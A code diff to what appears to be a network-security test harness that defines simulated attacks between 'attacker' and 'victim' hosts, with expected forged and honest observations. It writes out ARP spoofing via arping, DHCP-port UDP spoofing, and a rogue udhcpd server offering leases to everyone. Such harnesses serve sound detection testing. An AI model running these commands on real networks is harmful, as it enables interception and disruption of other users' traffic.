@@ -39,11 +39,11 @@ const pingAs = (address: string, { victim }: Stage): string =>
 const freeAddress = ({ victim }: Stage): string => victim.address.replace(/\d+$/, "242");
 
 const arping = (kind: "A" | "U", address: string): string =>
-  `arping -${kind} -c 2 -I eth0 -s ${address} ${address}`;
+  `arping -${kind} -c 1 -I eth0 -s ${address} ${address}`;
 
-/** Sends UDP from a port to the port after another one. */
-const udpFrom = (port: number, base: number, { victim }: Stage): string =>
-  `echo '${port - 1} ${port}' >/proc/sys/net/ipv4/ip_local_port_range; traceroute -n -q 2 -w 1 -f 6 -m 6 -p ${base} ${victim.address}; traceroute -n -q 2 -w 1 -f 6 -m 6 -p ${base} ${victim.address}`;
+/** Sends UDP from a port to the two ports after 67. */
+const udpFrom = (port: number, { victim }: Stage): string =>
+  `echo '${port} ${port}' >/proc/sys/net/ipv4/ip_local_port_range; traceroute -n -q 2 -w 1 -f 6 -m 6 -p 67 ${victim.address}`;
 
 export const ATTACKS: Attack[] = [
   {
@@ -109,8 +109,8 @@ export const ATTACKS: Attack[] = [
     command: (stage) =>
       [
         "echo 0 >/proc/sys/net/ipv4/ip_unprivileged_port_start",
-        udpFrom(67, 67, stage),
-        udpFrom(1067, 67, stage),
+        udpFrom(67, stage),
+        udpFrom(1067, stage),
         "echo '32768 60999' >/proc/sys/net/ipv4/ip_local_port_range",
       ].join("; "),
     forged: ({ attacker }) => [
@@ -126,9 +126,9 @@ export const ATTACKS: Attack[] = [
     command: ({ victim }) =>
       [
         `printf 'start ${freeAddress({ victim } as Stage)}\\nend ${victim.address.replace(/\d+$/, "243")}\\ninterface eth0\\nlease_file /leases\\n' >/udhcpd.conf`,
-        "touch /leases; timeout 12 udhcpd -f -a 100 /udhcpd.conf 2>&1",
+        "touch /leases; timeout 10 udhcpd -f -a 100 /udhcpd.conf 2>&1",
       ].join("; "),
-    meanwhile: "sleep 4; udhcpc -i eth0 -s /bin/true -n -q -f -t 3 -T 2 2>&1",
+    meanwhile: "sleep 3; udhcpc -i eth0 -s /bin/true -n -q -f -t 3 -T 2 2>&1",
     forged: ({ attacker }) => [`offer to everybody by ${attacker.mac}`],
     honest: () => [],
   },
